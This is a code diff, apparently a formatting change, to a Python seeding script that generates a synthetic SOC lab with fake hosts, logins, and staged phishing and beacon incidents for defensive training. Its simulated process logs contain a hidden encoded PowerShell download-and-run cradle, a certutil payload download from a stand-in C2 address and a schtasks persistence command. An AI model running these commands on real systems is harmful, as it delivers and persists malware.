@@ -113,7 +113,15 @@ ACCOUNTS = [
 
 # hostname, host id, os, role, owner, ip, criticality
 SERVERS = [
-    (DOMAIN_CONTROLLER, "H-1001", "Windows Server 2022", "domain_controller", "it-infrastructure", "10.10.0.10", "critical"),
+    (
+        DOMAIN_CONTROLLER,
+        "H-1001",
+        "Windows Server 2022",
+        "domain_controller",
+        "it-infrastructure",
+        "10.10.0.10",
+        "critical",
+    ),
     ("DC-02", "H-1002", "Windows Server 2022", "domain_controller", "it-infrastructure", "10.10.0.11", "critical"),
     ("SRV-APP-01", "H-1003", "Windows Server 2022", "server", "app-team", "10.10.1.21", "high"),
     ("SRV-APP-02", "H-1004", "Windows Server 2022", "server", "app-team", "10.10.1.22", "high"),
@@ -133,22 +141,47 @@ DEPARTMENT_SUBNETS = {"finance": 30, "sales": 40, "engineering": 50, "hr": 60, "
 # Everyday software: (image, command line template, typical domains)
 App = tuple[str, str, list[str]]
 WORKSTATION_APPS: list[App] = [
-    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", '"chrome.exe" --profile-directory=Default',
-     ["www.google.com", "www.bbc.co.uk", "corp.sharepoint.com"]),
+    (
+        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
+        '"chrome.exe" --profile-directory=Default',
+        ["www.google.com", "www.bbc.co.uk", "corp.sharepoint.com"],
+    ),
     (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", '"OUTLOOK.EXE"', ["outlook.office365.com"]),
-    (r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe", '"Teams.exe" --system-initiated', ["teams.microsoft.com"]),
-    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", '"EXCEL.EXE" "C:\\Users\\{user}\\Documents\\{doc}.xlsx"', []),
-    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\{doc}.docx"', []),
+    (
+        r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe",
+        '"Teams.exe" --system-initiated',
+        ["teams.microsoft.com"],
+    ),
+    (
+        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
+        '"EXCEL.EXE" "C:\\Users\\{user}\\Documents\\{doc}.xlsx"',
+        [],
+    ),
+    (
+        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+        '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\{doc}.docx"',
+        [],
+    ),
     (r"C:\Program Files\Microsoft OneDrive\OneDrive.exe", '"OneDrive.exe" /background', ["onedrive.live.com"]),
 ]
 ENGINEERING_APPS: list[App] = [
     (r"C:\Program Files\Git\cmd\git.exe", "git fetch origin", ["github.com"]),
-    (r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe", '"Code.exe"', ["update.code.visualstudio.com"]),
+    (
+        r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe",
+        '"Code.exe"',
+        ["update.code.visualstudio.com"],
+    ),
 ]
 SERVER_APPS: dict[str, list[App]] = {
     "domain_controller": [(r"C:\Windows\System32\dcdiag.exe", "dcdiag /q", [])],
-    "app": [(r"C:\Windows\System32\inetsrv\w3wp.exe", "w3wp.exe -ap \"orders\" -v \"v4.0\"", ["api.stripe.com"])],
-    "db": [(r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe", "sqlservr.exe -sMSSQLSERVER", [])],
+    "app": [(r"C:\Windows\System32\inetsrv\w3wp.exe", 'w3wp.exe -ap "orders" -v "v4.0"', ["api.stripe.com"])],
+    "db": [
+        (
+            r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe",
+            "sqlservr.exe -sMSSQLSERVER",
+            [],
+        )
+    ],
     "other": [(r"C:\Windows\System32\wuauclt.exe", "wuauclt.exe /detectnow", ["download.windowsupdate.com"])],
 }
 DOMAIN_IPS = {
@@ -181,12 +214,9 @@ def _encoded(command: str) -> str:
     return base64.b64encode(command.encode("utf-16-le")).decode()
 
 
-POWERSHELL_COMMAND = (
-    r"powershell.exe -NoProfile -WindowStyle Hidden -enc "
-    + _encoded(
-        f"$u='https://{PHISH_DOMAIN}/cdn/update.bin';$p=\"$env:TEMP\\invupd.exe\";"
-        "(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p"
-    )
+POWERSHELL_COMMAND = r"powershell.exe -NoProfile -WindowStyle Hidden -enc " + _encoded(
+    f"$u='https://{PHISH_DOMAIN}/cdn/update.bin';$p=\"$env:TEMP\\invupd.exe\";"
+    "(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p"
 )
 
 
@@ -210,7 +240,15 @@ class _Builder:
     def login(self, at, user, host, ip, country, result, method):
         if at <= self.now:
             self.logins.append(
-                Login(at=at, username=user, hostname=host, source_ip=ip, source_country=country, result=result, method=method)
+                Login(
+                    at=at,
+                    username=user,
+                    hostname=host,
+                    source_ip=ip,
+                    source_country=country,
+                    result=result,
+                    method=method,
+                )
             )
 
     def event(self, at, kind, host, user, summary):
@@ -221,8 +259,14 @@ class _Builder:
         if at <= self.now:
             self.processes.append(
                 ProcessEvent(
-                    host=self.hosts[host], at=at, pid=pid, ppid=ppid, image=image, command_line=command_line,
-                    username=user or "", sha256=sha256 or image_sha256(image),
+                    host=self.hosts[host],
+                    at=at,
+                    pid=pid,
+                    ppid=ppid,
+                    image=image,
+                    command_line=command_line,
+                    username=user or "",
+                    sha256=sha256 or image_sha256(image),
                 )
             )
 
@@ -230,8 +274,14 @@ class _Builder:
         if at <= self.now:
             self.connections.append(
                 NetworkEvent(
-                    host=self.hosts[host], at=at, pid=pid, image=image, remote_ip=ip or DOMAIN_IPS[domain],
-                    remote_domain=domain or "", remote_port=port, bytes_out=bytes_out,
+                    host=self.hosts[host],
+                    at=at,
+                    pid=pid,
+                    image=image,
+                    remote_ip=ip or DOMAIN_IPS[domain],
+                    remote_domain=domain or "",
+                    remote_port=port,
+                    bytes_out=bytes_out,
                 )
             )
 
@@ -245,21 +295,36 @@ class _Builder:
 def _build_inventory(b: _Builder) -> None:
     for hostname, host_id, os_name, role, owner, ip, criticality in SERVERS:
         b.hosts[hostname] = Host(
-            host_id=host_id, hostname=hostname, os=os_name, role=role, owner=owner, ip=ip,
-            criticality=criticality, last_seen=b.ago(seconds=b.rng.randrange(5, 300)),
+            host_id=host_id,
+            hostname=hostname,
+            os=os_name,
+            role=role,
+            owner=owner,
+            ip=ip,
+            criticality=criticality,
+            last_seen=b.ago(seconds=b.rng.randrange(5, 300)),
         )
     per_department: dict[str, int] = {}
     number = FIRST_WORKSTATION_ID
     for username, display, department, title, privileged, mfa, workstation in ACCOUNTS:
         b.accounts[username] = Account(
-            username=username, display_name=display, email=f"{username}@{COMPANY_DOMAIN}",
-            department=department, title=title, privileged=privileged, mfa=mfa,
+            username=username,
+            display_name=display,
+            email=f"{username}@{COMPANY_DOMAIN}",
+            department=department,
+            title=title,
+            privileged=privileged,
+            mfa=mfa,
         )
         if workstation:
             per_department[department] = per_department.get(department, 0) + 1
             b.hosts[workstation] = Host(
-                host_id=f"H-{number}", hostname=workstation, os="Windows 11 Enterprise 23H2", role="workstation",
-                owner=username, ip=f"10.20.{DEPARTMENT_SUBNETS[department]}.{10 + per_department[department]}",
+                host_id=f"H-{number}",
+                hostname=workstation,
+                os="Windows 11 Enterprise 23H2",
+                role="workstation",
+                owner=username,
+                ip=f"10.20.{DEPARTMENT_SUBNETS[department]}.{10 + per_department[department]}",
                 criticality="medium" if department in {"finance", "it"} else "low",
                 last_seen=b.ago(seconds=b.rng.randrange(5, 600)),
             )
@@ -280,21 +345,49 @@ def _everyday_noise(b: _Builder) -> None:
         _server_day(b, start)
         for _ in range(rng.randrange(3, 7)):  # internet scanners trying common names on the VPN
             ip, country = rng.choice(SCANNER_IPS)
-            b.login(start + timedelta(minutes=rng.randrange(0, 1440)), rng.choice(["admin", "administrator", "test", "vpn", "scan"]),
-                    "SRV-VPN-01", ip, country, "failure", "vpn")
+            b.login(
+                start + timedelta(minutes=rng.randrange(0, 1440)),
+                rng.choice(["admin", "administrator", "test", "vpn", "scan"]),
+                "SRV-VPN-01",
+                ip,
+                country,
+                "failure",
+                "vpn",
+            )
         for executive in ("c.ellis", "i.morgan"):
             at = start + timedelta(minutes=rng.randrange(0, 120))
             b.login(at, executive, "SRV-SSO-01", OFFICE_IP, "GB", "success", "sso")
             b.event(at, "mfa_push", None, executive, f"MFA push approved for {executive} from {OFFICE_IP} (GB)")
     # A few one-off, harmless events.
-    b.event(b.ago(days=4, hours=6), "av_alert", "WS-MKT-01", "z.ahmed",
-            "Defender: PUA:Win32/PdfConverterToolbar detected in Downloads\\free-pdf-converter-setup.exe; action: quarantined")
-    b.event(b.ago(days=4, hours=6, minutes=1), "dns_query", "WS-MKT-01", "z.ahmed", "WS-MKT-01 resolved free-pdf-converter.io -> 104.21.48.77")
-    b.event(b.ago(days=2, hours=3), "av_alert", "WS-IT-02", "v.kowalski",
-            "Defender: Virus:DOS/EICAR_Test_File detected in C:\\Temp\\eicar.com; action: removed (service desk AV test)")
+    b.event(
+        b.ago(days=4, hours=6),
+        "av_alert",
+        "WS-MKT-01",
+        "z.ahmed",
+        "Defender: PUA:Win32/PdfConverterToolbar detected in Downloads\\free-pdf-converter-setup.exe; action: quarantined",
+    )
+    b.event(
+        b.ago(days=4, hours=6, minutes=1),
+        "dns_query",
+        "WS-MKT-01",
+        "z.ahmed",
+        "WS-MKT-01 resolved free-pdf-converter.io -> 104.21.48.77",
+    )
+    b.event(
+        b.ago(days=2, hours=3),
+        "av_alert",
+        "WS-IT-02",
+        "v.kowalski",
+        "Defender: Virus:DOS/EICAR_Test_File detected in C:\\Temp\\eicar.com; action: removed (service desk AV test)",
+    )
     for username in ("s.khan", "b.novak", "o.brien"):
-        b.event(b.ago(days=rng.randrange(1, DAYS), hours=rng.randrange(1, 8)), "password_change", DOMAIN_CONTROLLER, username,
-                f"{username} changed their password (self-service, expiry reminder)")
+        b.event(
+            b.ago(days=rng.randrange(1, DAYS), hours=rng.randrange(1, 8)),
+            "password_change",
+            DOMAIN_CONTROLLER,
+            username,
+            f"{username} changed their password (self-service, expiry reminder)",
+        )
 
 
 def _workday(b: _Builder, start: datetime, username: str, department: str, workstation: str, mfa: bool) -> None:
@@ -306,28 +399,75 @@ def _workday(b: _Builder, start: datetime, username: str, department: str, works
     b.login(at, username, workstation, host.ip, "GB", "success", "interactive")
     b.login(at + timedelta(minutes=2), username, "SRV-SSO-01", OFFICE_IP, "GB", "success", "sso")
     if mfa:
-        b.event(at + timedelta(minutes=2), "mfa_push", None, username, f"MFA push approved for {username} from {OFFICE_IP} (GB)")
+        b.event(
+            at + timedelta(minutes=2),
+            "mfa_push",
+            None,
+            username,
+            f"MFA push approved for {username} from {OFFICE_IP} (GB)",
+        )
     explorer = b.pid()
-    b.process(at + timedelta(seconds=5), workstation, explorer, 4620, r"C:\Windows\explorer.exe", "C:\\Windows\\Explorer.EXE", username)
+    b.process(
+        at + timedelta(seconds=5),
+        workstation,
+        explorer,
+        4620,
+        r"C:\Windows\explorer.exe",
+        "C:\\Windows\\Explorer.EXE",
+        username,
+    )
     apps = WORKSTATION_APPS + (ENGINEERING_APPS if department == "engineering" else [])
     for image, command, domains in rng.sample(apps, k=min(len(apps), rng.randrange(3, 6))):
         started = at + timedelta(minutes=rng.randrange(1, 240), seconds=rng.randrange(60))
         pid = b.pid()
         image = image.format(user=username)
-        b.process(started, workstation, pid, explorer, image, command.format(user=username, doc=rng.choice(DOCUMENTS)), username)
+        b.process(
+            started,
+            workstation,
+            pid,
+            explorer,
+            image,
+            command.format(user=username, doc=rng.choice(DOCUMENTS)),
+            username,
+        )
         for domain in domains:
-            b.connection(started + timedelta(seconds=rng.randrange(2, 30)), workstation, pid, image, domain, 443, rng.randrange(900, 60000))
+            b.connection(
+                started + timedelta(seconds=rng.randrange(2, 30)),
+                workstation,
+                pid,
+                image,
+                domain,
+                443,
+                rng.randrange(900, 60000),
+            )
             if rng.random() < 0.5:
-                b.event(started, "dns_query", workstation, username, f"{workstation} resolved {domain} -> {DOMAIN_IPS[domain]}")
+                b.event(
+                    started,
+                    "dns_query",
+                    workstation,
+                    username,
+                    f"{workstation} resolved {domain} -> {DOMAIN_IPS[domain]}",
+                )
     if rng.random() < 0.3:
         clicked = at + timedelta(hours=rng.randrange(1, 7))
-        b.event(clicked, "email_click", workstation, username,
-                f"{username} clicked https://corp.sharepoint.com/sites/{department}/Shared%20Documents in an email from a colleague")
+        b.event(
+            clicked,
+            "email_click",
+            workstation,
+            username,
+            f"{username} clicked https://corp.sharepoint.com/sites/{department}/Shared%20Documents in an email from a colleague",
+        )
     if rng.random() < 0.2:  # an evening at home on the VPN
         evening = start + timedelta(hours=11, minutes=rng.randrange(0, 90))
         ip = b.home_ip()
         b.login(evening, username, "SRV-VPN-01", ip, "GB", "success", "vpn")
-        b.event(evening, "vpn_login", "SRV-VPN-01", username, f"{username} connected to the VPN from {ip} (GB) on managed laptop {workstation}")
+        b.event(
+            evening,
+            "vpn_login",
+            "SRV-VPN-01",
+            username,
+            f"{username} connected to the VPN from {ip} (GB) on managed laptop {workstation}",
+        )
 
 
 def _admin_day(b: _Builder, start: datetime) -> None:
@@ -335,11 +475,32 @@ def _admin_day(b: _Builder, start: datetime) -> None:
     rng = b.rng
     admin_ws = b.hosts["WS-IT-01"]
     for target in rng.sample([h for h, *_ in SERVERS], k=3):
-        b.login(start + timedelta(hours=rng.randrange(1, 8)), "adm.r.singh", target, admin_ws.ip, "GB", "success", "remote_interactive")
+        b.login(
+            start + timedelta(hours=rng.randrange(1, 8)),
+            "adm.r.singh",
+            target,
+            admin_ws.ip,
+            "GB",
+            "success",
+            "remote_interactive",
+        )
     at = start + timedelta(hours=1, minutes=rng.randrange(0, 30))
-    b.process(at, "WS-IT-01", b.pid(), 4620, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-              r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1", "r.singh")
-    b.event(at, "process_start", "WS-IT-01", "r.singh", "powershell.exe -File C:\\Scripts\\inventory.ps1 (scheduled inventory script)")
+    b.process(
+        at,
+        "WS-IT-01",
+        b.pid(),
+        4620,
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1",
+        "r.singh",
+    )
+    b.event(
+        at,
+        "process_start",
+        "WS-IT-01",
+        "r.singh",
+        "powershell.exe -File C:\\Scripts\\inventory.ps1 (scheduled inventory script)",
+    )
     backup = start + timedelta(hours=16)
     for target in ("SRV-DB-01", "SRV-FILE-01", "SRV-APP-01", BEACON_HOST):
         b.login(backup, "svc_backup", target, b.hosts["SRV-BKP-01"].ip, "GB", "success", "network")
@@ -350,8 +511,11 @@ def _server_day(b: _Builder, start: datetime) -> None:
     rng = b.rng
     for hostname, *_rest in SERVERS:
         host = b.hosts[hostname]
-        kind = "domain_controller" if host.role == "domain_controller" else (
-            "app" if hostname.startswith("SRV-APP") else "db" if hostname.startswith("SRV-DB") else "other")
+        kind = (
+            "domain_controller"
+            if host.role == "domain_controller"
+            else ("app" if hostname.startswith("SRV-APP") else "db" if hostname.startswith("SRV-DB") else "other")
+        )
         for image, command, domains in SERVER_APPS[kind]:
             at = start + timedelta(minutes=rng.randrange(0, 1440))
             user = {"app": "svc_web", "db": "svc_sql"}.get(kind, "SYSTEM")
@@ -359,45 +523,115 @@ def _server_day(b: _Builder, start: datetime) -> None:
             b.process(at, hostname, pid, 712, image, command, user)
             for domain in domains:
                 for _ in range(rng.randrange(2, 5)):
-                    b.connection(at + timedelta(minutes=rng.randrange(0, 300)), hostname, pid, image, domain, 443, rng.randrange(500, 8000))
+                    b.connection(
+                        at + timedelta(minutes=rng.randrange(0, 300)),
+                        hostname,
+                        pid,
+                        image,
+                        domain,
+                        443,
+                        rng.randrange(500, 8000),
+                    )
         if hostname != "SRV-BKP-01":
-            b.connection(start + timedelta(hours=16, minutes=rng.randrange(0, 60)), hostname, 2288,
-                         r"C:\Program Files\Veeam\Endpoint Backup\Veeam.Agent.exe", "", 10006, rng.randrange(10**8, 10**9),
-                         ip=b.hosts["SRV-BKP-01"].ip)
+            b.connection(
+                start + timedelta(hours=16, minutes=rng.randrange(0, 60)),
+                hostname,
+                2288,
+                r"C:\Program Files\Veeam\Endpoint Backup\Veeam.Agent.exe",
+                "",
+                10006,
+                rng.randrange(10**8, 10**9),
+                ip=b.hosts["SRV-BKP-01"].ip,
+            )
 
 
 def _phishing_story(b: _Builder) -> None:
     ws, user = PHISHED_HOST, PHISHED_USER
     click = b.ago(PHISH_CLICK_AGO)
-    b.event(click, "email_click", ws, user,
-            f"{user} clicked https://{PHISH_DOMAIN}/view/INV-8841 in an email from accounts@{PHISH_DOMAIN} "
-            "(subject: 'Overdue invoice INV-8841 - final notice')")
+    b.event(
+        click,
+        "email_click",
+        ws,
+        user,
+        f"{user} clicked https://{PHISH_DOMAIN}/view/INV-8841 in an email from accounts@{PHISH_DOMAIN} "
+        "(subject: 'Overdue invoice INV-8841 - final notice')",
+    )
     b.event(click + timedelta(seconds=1), "dns_query", ws, user, f"{ws} resolved {PHISH_DOMAIN} -> {PHISH_IP}")
     chrome = 7412
     b.connection(click + timedelta(seconds=2), ws, chrome, WORKSTATION_APPS[0][0], PHISH_DOMAIN, 443, 1840)
     word, shell, payload = 8120, 8344, 8572
     opened = click + timedelta(minutes=2)
-    b.process(opened, ws, word, chrome, WORKSTATION_APPS[4][0],
-              f'"WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\INV-8841.docm"', user)
+    b.process(
+        opened,
+        ws,
+        word,
+        chrome,
+        WORKSTATION_APPS[4][0],
+        f'"WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\INV-8841.docm"',
+        user,
+    )
     spawned = b.ago(POWERSHELL_AGO)
-    b.process(spawned, ws, shell, word, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", POWERSHELL_COMMAND, user)
-    b.event(spawned, "process_start", ws, user, f"WINWORD.EXE started powershell.exe with an encoded command: {POWERSHELL_COMMAND[:90]}...")
-    b.connection(spawned + timedelta(seconds=3), ws, shell, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-                 PHISH_DOMAIN, 443, 612)
-    b.process(spawned + timedelta(seconds=9), ws, payload, shell, PAYLOAD_PATH, PAYLOAD_PATH, user, sha256=PAYLOAD_SHA256)
-    b.event(spawned + timedelta(seconds=40), "av_alert", ws, user,
-            "Defender behaviour alert: an Office application launched PowerShell with an encoded command "
-            "(WINWORD.EXE -> powershell.exe -enc); action: none (audit mode)")
+    b.process(
+        spawned, ws, shell, word, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", POWERSHELL_COMMAND, user
+    )
+    b.event(
+        spawned,
+        "process_start",
+        ws,
+        user,
+        f"WINWORD.EXE started powershell.exe with an encoded command: {POWERSHELL_COMMAND[:90]}...",
+    )
+    b.connection(
+        spawned + timedelta(seconds=3),
+        ws,
+        shell,
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        PHISH_DOMAIN,
+        443,
+        612,
+    )
+    b.process(
+        spawned + timedelta(seconds=9), ws, payload, shell, PAYLOAD_PATH, PAYLOAD_PATH, user, sha256=PAYLOAD_SHA256
+    )
+    b.event(
+        spawned + timedelta(seconds=40),
+        "av_alert",
+        ws,
+        user,
+        "Defender behaviour alert: an Office application launched PowerShell with an encoded command "
+        "(WINWORD.EXE -> powershell.exe -enc); action: none (audit mode)",
+    )
     for minutes in (1, 6, 11):
-        b.connection(spawned + timedelta(minutes=minutes), ws, payload, PAYLOAD_PATH, PHISH_DOMAIN, 8443, b.rng.randrange(2000, 9000))
+        b.connection(
+            spawned + timedelta(minutes=minutes),
+            ws,
+            payload,
+            PAYLOAD_PATH,
+            PHISH_DOMAIN,
+            8443,
+            b.rng.randrange(2000, 9000),
+        )
     # Her password was phished too: the attacker signs in from a Tor exit after MFA fatigue.
     first_try = b.ago(ATTACKER_FIRST_FAILURE_AGO)
     for attempt in range(4):
-        b.login(first_try + timedelta(seconds=50 * attempt), user, "SRV-SSO-01", ATTACKER_IP, ATTACKER_COUNTRY, "failure", "sso")
+        b.login(
+            first_try + timedelta(seconds=50 * attempt),
+            user,
+            "SRV-SSO-01",
+            ATTACKER_IP,
+            ATTACKER_COUNTRY,
+            "failure",
+            "sso",
+        )
     signed_in = b.ago(ATTACKER_LOGIN_AGO)
     for pushed, outcome in ((-120, "denied"), (-60, "timed out"), (-5, "approved")):
-        b.event(signed_in + timedelta(seconds=pushed), "mfa_push", None, user,
-                f"MFA push {outcome} for {user} from {ATTACKER_IP} ({ATTACKER_COUNTRY})")
+        b.event(
+            signed_in + timedelta(seconds=pushed),
+            "mfa_push",
+            None,
+            user,
+            f"MFA push {outcome} for {user} from {ATTACKER_IP} ({ATTACKER_COUNTRY})",
+        )
     b.login(signed_in, user, "SRV-SSO-01", ATTACKER_IP, ATTACKER_COUNTRY, "success", "sso")
     b.login(signed_in + timedelta(minutes=1), user, "SRV-MAIL-01", ATTACKER_IP, ATTACKER_COUNTRY, "success", "owa")
 
@@ -406,16 +640,47 @@ def _beacon_story(b: _Builder) -> None:
     host, web, cmd, certutil, schtasks, beacon = BEACON_HOST, 3312, 5128, 5132, 5140, 4412
     started = b.ago(BEACON_START_AGO)
     dropped = started - timedelta(minutes=6)
-    b.process(b.ago(days=DAYS - 1, hours=12), host, web, 712, SERVER_APPS["app"][0][0], SERVER_APPS["app"][0][1], "svc_web")
-    b.process(dropped, host, cmd, web, r"C:\Windows\System32\cmd.exe",
-              f"cmd.exe /c certutil -urlcache -split -f http://{BEACON_IP}/u.bin {BEACON_IMAGE}", "svc_web")
-    b.process(dropped + timedelta(seconds=1), host, certutil, cmd, r"C:\Windows\System32\certutil.exe",
-              f"certutil -urlcache -split -f http://{BEACON_IP}/u.bin {BEACON_IMAGE}", "svc_web")
-    b.connection(dropped + timedelta(seconds=2), host, certutil, r"C:\Windows\System32\certutil.exe", "", 80, 410, ip=BEACON_IP)
-    b.process(dropped + timedelta(minutes=1), host, schtasks, web, r"C:\Windows\System32\schtasks.exe",
-              f'schtasks /create /tn "Microsoft\\Windows\\UpdateCheck" /tr {BEACON_IMAGE} /sc onstart /ru SYSTEM', "svc_web")
+    b.process(
+        b.ago(days=DAYS - 1, hours=12), host, web, 712, SERVER_APPS["app"][0][0], SERVER_APPS["app"][0][1], "svc_web"
+    )
+    b.process(
+        dropped,
+        host,
+        cmd,
+        web,
+        r"C:\Windows\System32\cmd.exe",
+        f"cmd.exe /c certutil -urlcache -split -f http://{BEACON_IP}/u.bin {BEACON_IMAGE}",
+        "svc_web",
+    )
+    b.process(
+        dropped + timedelta(seconds=1),
+        host,
+        certutil,
+        cmd,
+        r"C:\Windows\System32\certutil.exe",
+        f"certutil -urlcache -split -f http://{BEACON_IP}/u.bin {BEACON_IMAGE}",
+        "svc_web",
+    )
+    b.connection(
+        dropped + timedelta(seconds=2), host, certutil, r"C:\Windows\System32\certutil.exe", "", 80, 410, ip=BEACON_IP
+    )
+    b.process(
+        dropped + timedelta(minutes=1),
+        host,
+        schtasks,
+        web,
+        r"C:\Windows\System32\schtasks.exe",
+        f'schtasks /create /tn "Microsoft\\Windows\\UpdateCheck" /tr {BEACON_IMAGE} /sc onstart /ru SYSTEM',
+        "svc_web",
+    )
     b.process(started, host, beacon, 712, BEACON_IMAGE, BEACON_IMAGE, "SYSTEM", sha256=BEACON_SHA256)
-    b.event(started, "process_start", host, "SYSTEM", f"Scheduled task 'Microsoft\\Windows\\UpdateCheck' started {BEACON_IMAGE}")
+    b.event(
+        started,
+        "process_start",
+        host,
+        "SYSTEM",
+        f"Scheduled task 'Microsoft\\Windows\\UpdateCheck' started {BEACON_IMAGE}",
+    )
     at = started + timedelta(seconds=7)
     while at <= b.now:
         # Mostly small check-ins, now and then a larger upload when it had tasking.
@@ -423,7 +688,13 @@ def _beacon_story(b: _Builder) -> None:
         b.connection(at, host, beacon, BEACON_IMAGE, BEACON_DOMAIN, 443, sent)
         at += timedelta(seconds=BEACON_INTERVAL_S + b.rng.randrange(-4, 5))
     for hour in range(int(BEACON_START_AGO.total_seconds() // 3600)):
-        b.event(started + timedelta(hours=hour, seconds=6), "dns_query", host, "SYSTEM", f"{host} resolved {BEACON_DOMAIN} -> {BEACON_IP}")
+        b.event(
+            started + timedelta(hours=hour, seconds=6),
+            "dns_query",
+            host,
+            "SYSTEM",
+            f"{host} resolved {BEACON_DOMAIN} -> {BEACON_IP}",
+        )
     b.hosts[host].last_seen = b.ago(seconds=40)
 
 
@@ -431,29 +702,73 @@ def _benign_story(b: _Builder) -> None:
     """m.lee on a registered sales trip to Singapore: new country, same laptop, MFA, no bad indicators."""
     user, laptop = BENIGN_USER, BENIGN_HOST
     first = b.ago(BENIGN_FIRST_LOGIN_AGO)
-    b.event(first - timedelta(minutes=1), "mfa_push", None, user, f"MFA push approved for {user} from {BENIGN_IP} ({BENIGN_COUNTRY})")
+    b.event(
+        first - timedelta(minutes=1),
+        "mfa_push",
+        None,
+        user,
+        f"MFA push approved for {user} from {BENIGN_IP} ({BENIGN_COUNTRY})",
+    )
     for day in range(3):
         at = first + timedelta(days=day, minutes=b.rng.randrange(0, 40) if day else 0)
         b.login(at, user, laptop, b.hosts[laptop].ip, "GB", "success", "interactive")
         b.login(at + timedelta(minutes=1), user, "SRV-VPN-01", BENIGN_IP, BENIGN_COUNTRY, "success", "vpn")
-        b.event(at + timedelta(minutes=1), "vpn_login", "SRV-VPN-01", user,
-                f"{user} connected to the VPN from {BENIGN_IP} (Singapore, {BENIGN_COUNTRY}) on managed laptop {laptop}; "
-                "device posture compliant; MFA approved; travel registered: APAC Sales Summit, Singapore")
+        b.event(
+            at + timedelta(minutes=1),
+            "vpn_login",
+            "SRV-VPN-01",
+            user,
+            f"{user} connected to the VPN from {BENIGN_IP} (Singapore, {BENIGN_COUNTRY}) on managed laptop {laptop}; "
+            "device posture compliant; MFA approved; travel registered: APAC Sales Summit, Singapore",
+        )
         b.login(at + timedelta(minutes=3), user, "SRV-SSO-01", BENIGN_IP, BENIGN_COUNTRY, "success", "sso")
         pid = b.pid()
         b.process(at + timedelta(minutes=4), laptop, pid, 4620, WORKSTATION_APPS[1][0], '"OUTLOOK.EXE"', user)
-        b.connection(at + timedelta(minutes=4, seconds=20), laptop, pid, WORKSTATION_APPS[1][0], "outlook.office365.com", 443, 24000)
+        b.connection(
+            at + timedelta(minutes=4, seconds=20),
+            laptop,
+            pid,
+            WORKSTATION_APPS[1][0],
+            "outlook.office365.com",
+            443,
+            24000,
+        )
 
 
 def _intel(b: _Builder) -> None:
     def add(kind, value, verdict, confidence, tags, days_ago, source="lab-intel"):
         first_seen = b.ago(days=days_ago) if days_ago is not None else None
-        b.indicators.append(Indicator(kind=kind, value=value, verdict=verdict, confidence=confidence, tags=tags,
-                                      first_seen=first_seen, source=source))
+        b.indicators.append(
+            Indicator(
+                kind=kind,
+                value=value,
+                verdict=verdict,
+                confidence=confidence,
+                tags=tags,
+                first_seen=first_seen,
+                source=source,
+            )
+        )
 
     add("hash", PAYLOAD_SHA256, "malicious", 95, ["loader", "qakbot", "phishing"], 12, "lab-intel/malware-feed")
-    add("ip", ATTACKER_IP, "malicious", 90, ["tor-exit", "anonymizer", "credential-stuffing"], 400, "lab-intel/tor-exits")
-    add("domain", PHISH_DOMAIN, "malicious", 92, ["phishing", "credential-harvesting", "newly-registered"], 6, "lab-intel/phish-feed")
+    add(
+        "ip",
+        ATTACKER_IP,
+        "malicious",
+        90,
+        ["tor-exit", "anonymizer", "credential-stuffing"],
+        400,
+        "lab-intel/tor-exits",
+    )
+    add(
+        "domain",
+        PHISH_DOMAIN,
+        "malicious",
+        92,
+        ["phishing", "credential-harvesting", "newly-registered"],
+        6,
+        "lab-intel/phish-feed",
+    )
     add("ip", PHISH_IP, "malicious", 80, ["phishing", "bulletproof-hosting"], 9, "lab-intel/phish-feed")
     add("hash", BEACON_SHA256, "malicious", 98, ["cobaltstrike", "beacon", "c2"], 30, "lab-intel/malware-feed")
     add("domain", BEACON_DOMAIN, "malicious", 94, ["cobaltstrike", "c2", "typosquat"], 21, "lab-intel/c2-tracker")
@@ -471,8 +786,13 @@ def _intel(b: _Builder) -> None:
     images = {image.format(user="x") for image, *_ in WORKSTATION_APPS + ENGINEERING_APPS}
     images |= {image for apps in SERVER_APPS.values() for image, *_ in apps}
     # Signed system binaries are known-good files, even when an attacker runs them.
-    images |= {r"C:\Windows\explorer.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-               r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\certutil.exe", r"C:\Windows\System32\schtasks.exe"}
+    images |= {
+        r"C:\Windows\explorer.exe",
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        r"C:\Windows\System32\cmd.exe",
+        r"C:\Windows\System32\certutil.exe",
+        r"C:\Windows\System32\schtasks.exe",
+    }
     for image in sorted(images):
         add("hash", image_sha256(image), "benign", 99, ["signed", "known-good"], 3000, "lab-intel/nsrl")
 
@@ -502,20 +822,41 @@ def seed(now: datetime | None = None, seed: int = SEED) -> dict[str, int]:
     now = (now or timezone.now()).replace(microsecond=0)
     b = build(now, seed)
     with transaction.atomic():
-        for model in (NetworkEvent, ProcessEvent, Login, SiemEvent, Indicator, Ticket, Account, Host, LabWrite, LabEstate):
+        for model in (
